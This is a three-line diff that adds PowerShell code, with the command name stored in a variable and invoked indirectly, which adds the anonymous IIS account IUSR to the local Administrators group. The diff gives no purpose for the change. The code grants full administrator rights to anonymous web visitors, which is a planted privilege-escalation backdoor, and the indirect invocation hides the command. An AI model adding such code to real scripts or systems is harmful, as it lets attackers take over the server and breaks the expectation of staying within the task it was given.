@@ -1,0 +1,3 @@
+$a = @{ Group = 'Administrators'; Member = 'IUSR' }
+$c = 'Add-LocalGroupMember'
+& $c @a
